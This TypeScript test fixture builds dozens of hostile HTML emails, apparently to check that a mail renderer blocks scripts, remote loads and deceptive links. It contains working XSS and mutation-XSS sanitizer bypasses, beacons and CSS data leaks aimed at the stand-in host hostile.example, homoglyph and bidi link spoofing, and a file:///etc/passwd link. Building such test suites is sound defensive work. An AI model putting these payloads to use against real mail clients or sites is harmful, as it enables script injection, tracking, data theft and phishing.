/**
 * Mails that want to run something, load something or leave something. Each does it in one way; `J` stands for a script that
 * reports itself, `S` for an https address and `H` for an http one, all of them with the id of the mail. The word VISIBLE
 * stands in each outside of what is hostile, so that to show nothing is no way to be safe.
 */
export interface HostileMail {
  readonly id: string;
  readonly html: string;
}

const b64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');
const entities = (text: string): string =>
  text.replace(/./gsu, (letter) => `&#${letter.codePointAt(0) ?? 0}`);
const script = (id: string): string => `top.postMessage('${id}','*')`;
const svg = (id: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${script(id)}"><script>${script(id)}</script></svg>`;

type Write = (id: string, at: { J: string; S: string; H: string }) => string;

const scripts: Record<string, Write> = {
  script: (_, { J }) => `<script>${J}</script>VISIBLE`,
  'script-elsewhere': (_, { S }) => `<script src="${S}.js"></script>VISIBLE`,
  'script-module': (_, { S }) => `<script type="module">import "${S}.js"</script>VISIBLE`,
  'script-broken-tag': (_, { J }) => `VISIBLE<script/x>${J}</script/x><scr<script>ipt>${J}</script>`,
  'script-null-bytes': (_, { J }) => `VISIBLE<scr\0ipt>${J}</scr\0ipt><img src=x one\0rror="${J}">`,
  'script-in-comment': (_, { J }) =>
    `VISIBLE<!--><script>${J}</script>--><!--[if gte IE 4]><script>${J}</script><![endif]-->`,
  'script-downlevel-comment': (_, { J }) => `<![if true]><script>${J}</script><![endif]>VISIBLE`,
  'image-error': (_, { J }) => `VISIBLE<img src=x onerror="${J}">`,
  'image-error-unquoted': (_, { J }) => `VISIBLE<img src=x:x onerror=${J}>`,
  'image-error-slashes': (_, { J }) => `VISIBLE<img/src="x"/onerror="${J}">`,
  'image-error-entities': (_, { J }) => `VISIBLE<img src=x onerror="${entities(J)}">`,
  'image-error-backquotes': (_, { J }) => `VISIBLE<img src=\`x\` onerror=${J}//\`>`,
  'body-load': (_, { J }) => `<body onload="${J}" onpageshow="${J}">VISIBLE`,
  'frameset-load': (_, { J }) => `<frameset onload="${J}"><frame src="javascript:${J}"></frameset>VISIBLE`,
  'details-toggle': (_, { J }) => `<details open ontoggle="${J}">VISIBLE</details>`,
  marquee: (_, { J }) => `<marquee onstart="${J}" onfinish="${J}" loop=1>VISIBLE</marquee>`,
  'input-focus': (_, { J }) => `VISIBLE<input autofocus onfocus="${J}">`,
  'any-focus': (_, { J }) => `VISIBLE<a id=x tabindex=1 onfocus="${J}" autofocus>x</a>`,
  'style-animation': (_, { J }) =>
    `<style>@keyframes k{from{color:red}to{color:blue}}</style><p style="animation:k 10ms" onanimationstart="${J}" onanimationend="${J}">VISIBLE</p>`,
  'style-transition': (_, { J }) =>
    `<style>@keyframes z{to{opacity:0}}b{animation:z 1ms}</style><b onanimationend="${J}">VISIBLE</b>`,
  'video-error': (_, { J }) => `VISIBLE<video><source src=x onerror="${J}"></video>`,
  'audio-error': (_, { J }) => `VISIBLE<audio src=x onerror="${J}"></audio>`,
  'object-data': (id, { J }) =>
    `VISIBLE<object data="data:text/html;base64,${b64(`<script>${J}</script>`)}" id=${id}></object>`,
  'embed-source': (id) =>
    `VISIBLE<embed src="data:image/svg+xml;base64,${b64(svg(id))}" type="image/svg+xml">`,
  'iframe-srcdoc': (_, { J }) => `VISIBLE<iframe srcdoc="<script>${J}</script>"></iframe>`,
  'iframe-srcdoc-entities': (_, { J }) =>
    `VISIBLE<iframe srcdoc="&lt;script&gt;${J}&lt;/script&gt;"></iframe>`,
  'iframe-javascript': (_, { J }) => `VISIBLE<iframe src="javascript:${J}"></iframe>`,
  'iframe-javascript-spelled': (_, { J }) =>
    `VISIBLE<iframe src=" \x01jav&#x09;ascr&NewLine;ipt&colon;${J}"></iframe>`,
  'iframe-data': (_, { J }) => `VISIBLE<iframe src="data:text/html,<script>${J}</script>"></iframe>`,
  'meta-refresh-data': (_, { J }) =>
    `<meta http-equiv=refresh content="0;url=data:text/html,<script>${J}</script>">VISIBLE`,
  'meta-refresh-javascript': (_, { J }) =>
    `<meta http-equiv="refresh" content="0; url=javascript:${J}">VISIBLE`,
  'svg-load': (id) => `VISIBLE${svg(id)}`,
  'svg-script-href': (_, { S }) => `VISIBLE<svg><script xlink:href="${S}.js"></script></svg>`,
  'svg-animate': (_, { J }) =>
    `VISIBLE<svg><a xlink:href=x><animate attributeName=xlink:href values="javascript:${J}" begin=0s dur=1s onbegin="${J}"/><text y=20>x</text></a></svg>`,
  'svg-set': (_, { J }) => `VISIBLE<svg><set attributeName=x to=1 onbegin="${J}"/></svg>`,
  'svg-foreign-object': (_, { J }) =>
    `VISIBLE<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror="${J}"></body></foreignObject></svg>`,
  'svg-as-inline-picture': () => 'VISIBLE<img src="cid:drawing"><object data="cid:drawing"></object>',
  'svg-as-data-picture': (id) => `VISIBLE<img src="data:image/svg+xml;base64,${b64(svg(id))}">`,
  'html-as-data-picture': (id) => `VISIBLE<img src="data:image/png;base64,${b64(svg(id))}">`,
  'mxss-math-style': (_, { J }) =>
    `VISIBLE<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${J}">`,
  'mxss-math-table': (_, { J }) =>
    `VISIBLE<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${J}&gt;">`,
  'mxss-svg-style': (_, { J }) => `VISIBLE<svg></p><style><a id="</style><img src=x onerror=${J}>">`,
  'mxss-noscript': (_, { J }) =>
    `VISIBLE<noscript><p title="</noscript><img src=x onerror=${J}>"></noscript>`,
  'mxss-template': (_, { J }) =>
    `VISIBLE<template><style></template><img src=x onerror="${J}"></style></template><div><template shadowrootmode=open><img src=x onerror="${J}"></template></div>`,
  'mxss-textarea': (_, { J }) =>
    `VISIBLE<textarea><img title="</textarea><img src=x onerror=${J}>"></textarea>`,
  'mxss-title': (_, { J }) =>
    `VISIBLE<svg><title><style><img title="</style></title><img src=x onerror=${J}>">`,
  'mxss-xmp': (_, { J }) =>
    `VISIBLE<xmp><p title="</xmp><img src=x onerror=${J}>"></xmp><noembed><img alt="</noembed><img src=x onerror=${J}>"></noembed>`,
  'mxss-comment': (_, { J }) =>
    `VISIBLE<p><!-- --!><img src=x onerror="${J}"> --></p><p title="--><img src=x onerror=${J}>">`,
  'mxss-annotation': (_, { J }) =>
    `VISIBLE<math><annotation-xml encoding="text/html"><style><img src=x onerror="${J}"></style></annotation-xml></math>`,
  'mxss-select': (_, { J }) =>
    `VISIBLE<select><template><script>${J}</script></template><keygen><img src=x onerror="${J}"></select>`,
  'mxss-cdata': (_, { J }) => `VISIBLE<svg><![CDATA[><img src=x onerror="${J}">]]></svg>`,
  'clobbered-names': (_, { J }) =>
    `VISIBLE<form id=attributes><input name=attributes><input name=nodeName><input name=removeChild><img name=body><a id=documentElement href="javascript:${J}"></a></form><form name=createElement><input name=parentNode onfocus="${J}" autofocus>`,
  'custom-element': (_, { J }) =>
    `VISIBLE<x-y onclick="${J}" style="animation:k"></x-y><img is="x-y" src=x onerror="${J}">`,
  'nested-tables': (_, { J }) => `VISIBLE${'<table><tr><td>'.repeat(600)}<img src=x onerror="${J}">`,
  'utf-7': (_, { J }) =>
    `<meta charset=utf-7>VISIBLE+ADw-script+AD4-${J}+ADw-/script+AD4-<img src=x onerror="${J}">`,
  'many-attributes': (_, { J }) =>
    `VISIBLE<p ${'a=1 '.repeat(2000)} onmouseover="${J}"></p><svg/onload="${J}">`,
  'base-javascript': (_, { J }) =>
    `<base href="javascript:${J}//">VISIBLE<iframe src="#x"></iframe><a href="#x">x</a>`,
  'popup-on-load': (_, { S }) =>
    `VISIBLE<script>open("${S}")</script><a href="${S}" target=_blank id=a></a><script>a.click()</script>`,
};

const loads: Record<string, Write> = {
  image: (_, { S }) => `VISIBLE<img src="${S}.png" alt="a harbour">`,
  'image-http': (_, { H }) => `VISIBLE<img src="${H}.png">`,
  'image-no-scheme': (_, { S }) =>
    `VISIBLE<img src="${S.replace('https:', '')}.png"><img src="\\\\${S.slice(8)}.png">`,
  'image-srcset': (_, { S }) => `VISIBLE<img srcset="${S}1.png 1x, ${S}2.png 2x" sizes=100vw>`,
  'image-lazy-import': (_, { S }) =>
    `VISIBLE<img loading=eager dynsrc="${S}a" lowsrc="${S}b" longdesc="${S}c"><image src="${S}d.png">`,
  'image-with-credentials': (_, { S }) =>
    `VISIBLE<img src="${S.replace('https://', 'https://user:secret@')}.png">`,
  'image-of-a-wildcard-host': (_, { S }) =>
    `VISIBLE<img src="${S.replace('https://', 'https://*.')}.png"><img src="${S.replace('https://', 'https://a;img-src*')}.png">`,
  picture: (_, { S }) => `VISIBLE<picture><source srcset="${S}.webp"><img src="${S}.png"></picture>`,
  video: (_, { S }) =>
    `VISIBLE<video src="${S}.mp4" poster="${S}.png" autoplay preload=auto><track src="${S}.vtt" default></video>`,
  audio: (_, { S }) => `VISIBLE<audio autoplay preload=auto src="${S}.mp3"></audio><bgsound src="${S}.mid">`,
  'input-image': (_, { S }) => `VISIBLE<input type=image src="${S}.png">`,
  'background-attributes': (_, { S }) =>
    `<body background="${S}1.png"><table background="${S}2.png"><tr><td background="${S}3.png">VISIBLE</table>`,
  'style-url': (_, { S }) =>
    `<p style="background:url(${S}1.png);list-style-image:url('${S}2.png');cursor:url(${S}3.cur),auto">VISIBLE</p>`,
  'style-url-escaped': (_, { S }) =>
    `<p style="background:u\\72l(${S}1.png);b\\61ckground-image:\\75\\72\\6c('${S}2.png')">VISIBLE</p>`,
  'style-image-set': (_, { S }) =>
    `<p style="background:image-set('${S}1.png' 1x);content:image-set(url(${S}2.png) 1x)">VISIBLE</p>`,
  'style-custom-property': (_, { S }) =>
    `<style>:root{--a:url(${S}1.png)}p{background:var(--a)}</style><p style="--b:url(${S}2.png);background:var(--b)">VISIBLE</p>`,
  'style-import': (_, { S }) =>
    `<style>@import url(${S}1.css);@import "${S}2.css";@charset "utf-7";</style>VISIBLE`,
  'style-import-escaped': (_, { S }) => `<style>@\\69mport "${S}.css";</style>VISIBLE`,
  'style-font-face': (_, { S }) =>
    `<style>@font-face{font-family:x;src:url(${S}.woff2)}p{font-family:x}</style><p>VISIBLE</p>`,
  'style-attribute-selector': (_, { S }) =>
    `<style>input[value^="s"]{background:url(${S}1.png)}a[href*="token"]{list-style:url(${S}2.png);display:list-item}</style><input value="secret"><a href="https://x.example/?token=1">VISIBLE</a>`,
  'style-breaks-out': (_, { S }) =>
    `<style>p{color:red}</style ><img src="${S}1.png"><style>p::before{content:url(${S}2.png)}</style><p>VISIBLE</p>`,
  'style-supports-layer': (_, { S }) =>
    `<style>@layer a{p{background:url(${S}1.png)}}@supports (color:red){p{border-image:url(${S}2.png) 1}}@container (width>0px){p{mask:url(${S}3.svg#m)}}</style><p>VISIBLE</p>`,
  'style-nested': (_, { S }) =>
    `<style>div{color:red;p{background:url(${S}1.png)}&:hover{background:url(${S}2.png)}}</style><div><p>VISIBLE</p></div>`,
  'style-filter': (_, { S }) =>
    `<p style="filter:url(${S}1.svg#f);clip-path:url(${S}2.svg#c);mask-image:url(${S}3.png);shape-outside:url(${S}4.png);float:left">VISIBLE</p>`,
  'style-old': (_, { J, S }) =>
    `<p style="width:expression(${J});-moz-binding:url(${S}.xml#a);behavior:url(${S}.htc)">VISIBLE</p><img style="background:url(${S}.png)">`,
  'style-over-all': () => '<div style="position:fixed;inset:0;z-index:9999;background:#fff">VISIBLE</div>',
  'style-sheet': (_, { S }) =>
    `<link rel=stylesheet href="${S}.css"><link rel="alternate stylesheet" href="${S}2.css">VISIBLE`,
  'link-preload': (_, { S }) =>
    `<link rel=preload as=image href="${S}1.png"><link rel=prefetch href="${S}2"><link rel=icon href="${S}3.ico"><link rel=modulepreload href="${S}4.js">VISIBLE`,
  'link-connect': (_, { S }) =>
    `<link rel=preconnect href="${S}"><link rel=dns-prefetch href="${S}"><link rel=prerender href="${S}">VISIBLE`,
  'link-in-body': (_, { S }) =>
    `VISIBLE<p><link rel=stylesheet href="${S}.css"></p><link rel=preload as=style href="${S}2.css">`,
  manifest: (_, { S }) =>
    `<html manifest="${S}"><link rel=manifest href="${S}.json" crossorigin=use-credentials>VISIBLE<img src="${S}.png">`,
  'meta-refresh': (_, { S }) => `<meta http-equiv="refresh" content="0;url=${S}">VISIBLE`,
  'meta-refresh-late': (_, { S }) => `VISIBLE<p><meta http-equiv=REFRESH content="0.1 ; URL='${S}'"></p>`,
  base: (_, { S }) =>
    `<base href="${S}/">VISIBLE<img src="relative.png"><link rel=stylesheet href=relative.css>`,
  'meta-policy': (_, { S }) =>
    `<meta http-equiv="Content-Security-Policy" content="default-src * data: blob: 'unsafe-inline'; report-uri ${S}">VISIBLE<img src="${S}.gif">`,
  'iframe-source': (_, { S }) =>
    `VISIBLE<iframe src="${S}"></iframe><iframe src="//${S.slice(8)}" loading=eager></iframe>`,
  'frame-source': (_, { S }) => `VISIBLE<frameset><frame src="${S}"></frameset><iframe src="${S}"></iframe>`,
  object: (_, { S }) =>
    `VISIBLE<object data="${S}.svg" type="image/svg+xml"></object><embed src="${S}.pdf"><applet code="${S}" archive="${S}"></applet>`,
  'svg-image': (_, { S }) =>
    `VISIBLE<svg><image href="${S}1.png" width=9 height=9 /><image xlink:href="${S}2.png" width=9 height=9 /></svg>`,
  'svg-use': (_, { S }) =>
    `VISIBLE<svg><use href="${S}1.svg#a"/><use xlink:href="${S}2.svg#a"/><image href="${S}3.png" width=9 height=9 /></svg>`,
  'svg-fe-image': (_, { S }) =>
    `VISIBLE<svg><filter id=f><feImage href="${S}1.png"/></filter><rect width=9 height=9 filter="url(#f)"/><rect width=9 height=9 fill="url(${S}2.svg#p)"/></svg>`,
  'svg-style': (_, { S }) =>
    `VISIBLE<svg><style>@import "${S}1.css";rect{fill:url(${S}2.svg#a)}</style><rect width=9 height=9 /></svg>`,
  'form-auto-submit': (_, { S }) =>
    `VISIBLE<form action="${S}" method=post id=f><input name=a value=b></form><script>f.submit()</script>`,
  'form-button': (_, { S }) =>
    `VISIBLE<form action="${S}"><input type=submit formaction="${S}"><button formaction="${S}" autofocus>go</button><input type=image src="${S}.png"></form><isindex action="${S}">`,
  'fetch-and-beacon': (_, { S }) =>
    `VISIBLE<script>fetch("${S}1",{mode:"no-cors"});navigator.sendBeacon("${S}2");new WebSocket("${S}".replace("https","wss"));new EventSource("${S}3")</script>`,
  ping: (_, { S }) =>
    `VISIBLE<a id=p href="#x" ping="${S}1">x</a><area ping="${S}2" href="#"><script>p.click()</script>`,
  portal: (_, { S }) =>
    `VISIBLE<portal src="${S}"></portal><fencedframe src="${S}"></fencedframe><img src="${S}.png" attributionsrc="${S}">`,
  'speculation-rules': (_, { S }) =>
    `<script type=speculationrules>{"prefetch":[{"urls":["${S}"]}]}</script>VISIBLE<img src="${S}.png">`,
  'shadow-root': (_, { S }) =>
    `<div><template shadowrootmode=open><style>@import "${S}.css"</style><img src="${S}.png"></template></div>VISIBLE`,
  'noscript-picture': (_, { S }) => `<noscript><img src="${S}.png"></noscript>VISIBLE<img src="${S}2.png">`,
  'css-in-attributes': (_, { S }) =>
    `<table bgcolor="url(${S})" width="expression(1)"><tr><td color="x" style="color:red;background:url( '${S}.png' )">VISIBLE</table><font face="x;background:url(${S}2.png)">x</font>`,
};

const deceits: Record<string, Write> = {
  'links-that-run': (_, { J }) =>
    `VISIBLE<a href="javascript:${J}">a</a><a href=" JaVaScRiPt:${J}">b</a><a href="java\nscript:${J}">c</a><a href="&#106;avascript&colon;${J}">d</a><a href="vbscript:x">e</a><a href="data:text/html,<script>${J}</script>">f</a><a href="\x01javascript:${J}">g</a><a xlink:href="javascript:${J}">h</a><area href="javascript:${J}"><a href="blob:null/1">i</a><a href="file:///etc/passwd">j</a><a href="ms-word:ofe|u|x">k</a><a href="view-source:x">l</a>`,
  'links-that-lie': (_, { S }) =>
    `VISIBLE<a href="${S}">https://bank.example/login</a><a href="${S}">www.bank.example</a><a href="https://bank.example@evil.example/">bank.example</a><a href="https://\u0440\u0430ypal.example/">paypal.example</a>`,
  'bidi-tricks': (_, { S }) =>
    `VISIBLE \u202egpj.exe\u202c \u2066x\u2069 <a href="${S}" title="\u202e">\u202emoc.knab//:sptth</a>`,
  'content-id-loop': () =>
    'VISIBLE<img src="cid:self"><img src="cid:"><img src="cid:%"><img src="cid:none"><img src="CID:photo">',
};

const host = 'hostile.example';

/** Every mail, with addresses of its own. */
export const hostileMails: readonly HostileMail[] = Object.entries({ ...scripts, ...loads, ...deceits }).map(
  ([id, write]) => {
    const at = {
      J: script(id),
      S: `https://${id}.${host}/x`,
      H: `http://${id}.${host}/x`,
    };
    return { id, html: write(id, at) };
  },
);

/** A mail whose addresses are those of one showing of it, so that several can go on at a time. */
export function inShowing<T extends HostileMail>(mail: T, showing: string): T {
  return { ...mail, html: mail.html.replaceAll(`.${host}`, `.${showing}.${host}`) };
}

/** The mail that a host belongs to, when it is one of a showing. */
export function mailOfHost(name: string, showing: string): string | undefined {
  const [id] = name.toLowerCase().split(`.${showing}.${host}`);
  return hostileMails.find((mail) => id === mail.id || id?.endsWith(`.${mail.id}`))?.id;
}
